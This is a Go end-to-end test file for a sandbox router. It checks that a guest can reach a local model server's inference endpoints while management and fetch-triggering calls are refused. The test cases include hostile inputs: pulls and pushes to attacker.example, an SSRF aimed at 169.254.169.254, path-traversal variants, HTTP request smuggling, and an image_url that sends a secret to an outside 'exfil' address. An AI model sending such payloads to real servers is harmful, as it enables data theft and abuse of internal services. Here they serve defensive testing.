//go:build linux

package e2e

import (
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/agentcage/router/internal/lab"
	"github.com/agentcage/router/internal/modeltest"
)

// TestModelForwardInferenceOnly: from the guest, through the default forward (no api in the
// config), the inference calls pass and Ollama's management calls are refused, however
// they are spelled, pipelined or framed; the model server, which logs every request it
// receives, never sees one of them. The refusals show in status and the log with method
// and path.
func TestModelForwardInferenceOnly(t *testing.T) {
	s := newScene(t, config(lab.GoSocksAddr, ""))
	if out, code := s.curl(s.lab.Guest(), modelURL+"/v1/models"); code != 0 || !strings.Contains(out, lab.ModelID) {
		t.Fatalf("GET /v1/models: exit %d, %q", code, out)
	}
	if out, code := s.curl(s.lab.Guest(), modelURL+"/api/chat", "-d", `{"model":"`+lab.ModelID+`","messages":[]}`); code != 0 || !strings.Contains(out, "hello from the lab") {
		t.Fatalf("POST /api/chat: exit %d, %q", code, out)
	}
	s.wantModelStream(t, `{"model":"`+lab.ModelID+`","stream":true,"messages":[{"role":"user","content":"hi"}]}`)

	pull := `{"name":"attacker.example:8443/x/y"}`
	bad := map[string]string{
		"pull":           modelPost("/api/pull", pull),
		"create":         modelPost("/api/create", `{"model":"x","remote_host":"http://169.254.169.254"}`),
		"push":           modelPost("/api/push", `{"name":"attacker.example/x/y"}`),
		"delete":         fmt.Sprintf("DELETE /api/delete HTTP/1.1\r\nHost: %s\r\nContent-Length: 12\r\n\r\n{\"name\":\"x\"}", modelForward),
		"dot-dot":        modelPost("/api/chat/../pull", pull),
		"encoded dots":   modelPost("/api/%2e%2e/api/pull", pull),
		"double slash":   modelPost("//api//pull", pull),
		"pipelined":      fmt.Sprintf("GET /v1/models HTTP/1.1\r\nHost: %s\r\n\r\n", modelForward) + modelPost("/api/pull", pull),
		"ambiguous body": fmt.Sprintf("POST /api/chat HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", modelForward) + modelPost("/api/pull", pull),
	}
	for name, raw := range bad {
		t.Run(name, func(t *testing.T) {
			statuses := guestExchange(t, s, modelForward, raw, strings.Count(raw, " HTTP/1.1\r\n"))
			last := statuses[len(statuses)-1]
			if name == "pipelined" && (len(statuses) != 2 || statuses[0] != 200) {
				t.Errorf("pipelined: statuses %v; want 200 then 403", statuses)
			}
			if last != http.StatusForbidden {
				t.Errorf("statuses %v; want the last 403", statuses)
			}
		})
	}
	for _, r := range s.lab.ModelRequests() {
		switch r.Method + " " + r.Path {
		case "GET /v1/models", "POST /api/chat", "POST /v1/chat/completions":
		default:
			t.Errorf("the model server saw %s %s", r.Method, r.Path)
		}
	}
	n, recent := refusalCount(s.status(), "model-api")
	if n < uint64(len(bad)) {
		t.Errorf("status: %d model-api refusals; want %d", n, len(bad))
	}
	if !strings.Contains(fmt.Sprint(recent), "POST /api/pull") {
		t.Errorf("status: recent model-api refusals %+v; want POST /api/pull among them", recent)
	}
	// Logged with method and path (the first few; a summary counts the rest).
	s.waitLog(`msg="forward refused a request"`, 5*time.Second)
	if !regexp.MustCompile(`msg="forward refused a request" .*forward=model .*method=(POST|DELETE) path=/\S*api\S* reason=`).MatchString(s.log()) {
		t.Errorf("the refusals are not logged with method and path:\n%s", s.log())
	}
	if strings.Contains(s.log(), "attacker.example") {
		t.Error("the router's log holds a refused request's body")
	}
	s.wantNoLeak("model forward API")
}

// modelForward is the address of the scene's forward to the model (config's "model") on
// the guest's gateway, and modelURL its URL.
const (
	modelForward = lab.GatewayAddr + ":47831"
	modelURL     = "http://" + modelForward
)

// modelPost is raw HTTP/1.1 for the model forward: a JSON POST of body to target.
func modelPost(target, body string) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", target, modelForward, len(body), body)
}

// wantModelStream: the streamed chat completion body, sent from the guest through the
// model forward, comes back whole as the model server's stream.
func (s *scene) wantModelStream(t *testing.T, body string) {
	t.Helper()
	if out, code := s.curl(s.lab.Guest(), modelURL+"/v1/chat/completions", "-N", "-d", body); code != 0 || !strings.Contains(out, "lab-event-0") || !strings.Contains(out, "[DONE]") {
		t.Fatalf("streamed POST /v1/chat/completions of %s: exit %d, %q", body, code, out)
	}
}

// guestExchange writes raw to addr from the guest and returns the statuses of the
// responses read, up to want, until the router closes the connection; no answer at all
// fails the test.
func guestExchange(t *testing.T, s *scene, addr, raw string, want int) []int {
	t.Helper()
	out := nsExchange(t, s, s.lab.Guest(), addr, raw, want)
	if len(out) == 0 {
		t.Fatalf("no answer to %q", raw)
	}
	return out
}

// TestModelForwardBodiesFromGuest: from the guest, through the default forward, the bodies
// of the shared table that would make the model server fetch (llama.cpp's image_url to an
// outside address among them) are refused with 403 naming the field and never reach the
// model server, while a streamed chat completion still streams.
func TestModelForwardBodiesFromGuest(t *testing.T) {
	s := newScene(t, config(lab.GoSocksAddr, ""))
	issue := `{"model":"` + lab.ModelID + `","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://203.0.113.66/exfil?d=SECRET"}}]}]}`
	if out, _ := s.curl(s.lab.Guest(), modelURL+"/v1/chat/completions", "-H", "Content-Type: application/json", "-d", issue); !strings.Contains(out, "model_api_refused") || !strings.Contains(out, "image_url.url") {
		t.Errorf("the issue's image_url body: %q; want a refusal naming image_url.url", out)
	}
	// The same, chunked.
	if out, _ := s.curl(s.lab.Guest(), modelURL+"/v1/chat/completions", "-H", "Transfer-Encoding: chunked", "-d", issue); !strings.Contains(out, "model_api_refused") {
		t.Errorf("the issue's image_url body, chunked: %q; want a refusal", out)
	}
	refused := 2
	for _, tc := range modeltest.BodyCases() {
		if tc.Kinds != "" || tc.Refused == "" || len(tc.Body) > 64<<10 {
			continue // the default forward's cases, small enough for one write
		}
		path := tc.Path
		if path == "" {
			path = "/v1/chat/completions"
		}
		if st := guestExchange(t, s, modelForward, modelPost(path, tc.Body), 1); len(st) != 1 || st[0] != http.StatusForbidden {
			t.Errorf("%s: statuses %v; want 403", tc.Name, st)
		}
		refused++
	}
	stream := `{"model":"` + lab.ModelID + `","stream":true,"messages":[{"role":"user","content":[{"type":"text","text":"hi"},{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}`
	s.wantModelStream(t, stream)
	var chats int
	for _, r := range s.lab.ModelRequests() {
		switch r.Method + " " + r.Path {
		case "POST /v1/chat/completions":
			chats++
		default:
			t.Errorf("the model server saw %s %s", r.Method, r.Path)
		}
	}
	if chats != 1 {
		t.Errorf("the model server saw %d chat completions; want the 1 that passed", chats)
	}
	if n, _ := refusalCount(s.status(), "model-api"); n < uint64(refused) {
		t.Errorf("status: %d model-api refusals; want %d", n, refused)
	}
	if strings.Contains(s.log(), "203.0.113.66") || strings.Contains(s.log(), "SECRET") {
		t.Error("the router's log holds a refused body's value")
	}
	s.wantNoLeak("model forward bodies")
}
